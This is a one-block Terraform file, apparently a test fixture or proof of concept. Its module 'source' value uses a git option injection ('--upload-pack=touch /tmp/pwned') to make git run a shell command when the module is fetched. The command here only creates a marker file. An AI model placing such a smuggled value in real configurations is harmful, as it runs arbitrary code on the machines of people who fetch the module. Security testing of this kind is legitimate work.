module "x" {
  source = "git::--upload-pack=touch /tmp/pwned"
}
